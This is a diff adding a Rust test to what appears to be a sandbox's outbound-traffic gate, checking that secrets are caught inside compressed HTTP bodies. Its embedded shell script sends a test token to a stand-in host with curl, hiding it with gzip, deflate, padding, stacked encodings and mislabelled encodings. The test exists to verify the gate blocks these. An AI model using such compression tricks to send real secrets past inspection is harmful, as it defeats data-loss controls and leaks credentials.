@@ -128,6 +128,45 @@ t -d fine https://other.example/fine
     });
 }
 
+/// A server undoes `Content-Encoding` before anybody sees the body, and so does the gate.
+#[test]
+fn what_stands_for_a_secret_is_found_in_a_body_that_is_compressed() {
+    in_each_tier(|world, place| {
+        let script = r#"
+T=$TEST_TOKEN
+t() { curl -sS -o out -w '%{http_code} ' --data-binary @body -H "Content-Encoding: $1" "https://other.example/$2"; }
+printf 'token=%s' "$T" | gzip -c > body; t gzip packed; t GZIP packed
+(head -c 3000000 /dev/zero; printf %s "$T") | gzip -c > body; t gzip packed
+(printf fine | gzip -c; printf %s "$T" | gzip -c) > body; t gzip packed
+/usr/bin/python3 -c 'import os, zlib; open("body", "wb").write(zlib.compress(os.environ["TEST_TOKEN"].encode()))'; t deflate packed
+printf fine > body; t br packed; t gzip packed; t 'gzip, gzip' packed
+printf fine | gzip -c > body; t gzip loose
+/usr/bin/python3 -c 'import zlib; open("body", "wb").write(zlib.compress(b"fine"))'; t deflate loose
+printf fine > body; t identity loose
+"#;
+        let ran = by_environment(world, place, script);
+        assert_eq!(ran.text(), format!("{}200 200 200", "403 ".repeat(8)), "{}", ran.whole());
+        assert!(
+            world.saw("/loose") && !world.log().lines().any(|line| line.starts_with("placeholder")),
+            "{}",
+            world.log()
+        );
+        assert_denied(&ran, "request POST other.example:443/packed", "what stands for a secret does not leave");
+        assert!(ran.verdict["denials"].to_string().contains("in which nobody can look"), "{}", ran.verdict["denials"]);
+        // Where there is no secret, nobody looks, and any coding goes on.
+        world.profile(
+            "no-secret",
+            "summary = \"Test.\"\nextends = \"untrusted\"\n[egress]\ninspect = \"all\"\nallow = [\"other.example\"]\n",
+        );
+        let ran = world.bash(
+            place,
+            "no-secret",
+            "curl -sS -o out -w '%{http_code}' -d fine -H 'Content-Encoding: br' https://other.example/any",
+        );
+        assert_eq!(ran.text(), "200", "{}", ran.whole());
+    });
+}
+
 #[test]
 fn what_stands_for_a_secret_leaves_in_no_frame_of_a_websocket() {
     in_each_tier(|world, place| {
